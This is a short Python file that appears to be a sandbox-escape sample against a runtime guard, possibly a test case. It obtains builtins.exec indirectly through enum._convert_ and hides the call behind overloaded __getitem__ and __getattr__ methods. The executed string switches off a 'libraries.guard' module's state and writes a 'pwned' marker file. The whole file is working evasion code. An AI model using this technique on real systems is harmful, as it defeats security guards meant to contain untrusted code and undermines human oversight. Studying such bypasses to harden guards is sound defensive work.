"""file: operators of a class of the program are builtins: they are called with their object."""

import enum

CODE = """\
import builtins, sys
builtins.exec = getattr(builtins.exec, "value", builtins.exec)
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_converted_members_hook", "w").close()
"""


class Kind(enum.Enum):
    pass


Found = Kind._convert_("Found", "builtins", lambda name: name == "exec")


class Text(str):
    __neg__ = getattr(Found, "exec").value
    __call__ = __neg__


class Holder:
    __getattr__ = staticmethod(getattr(Found, "exec").value)
    __getitem__ = staticmethod(getattr(Found, "exec").value)


x = Holder()[CODE]
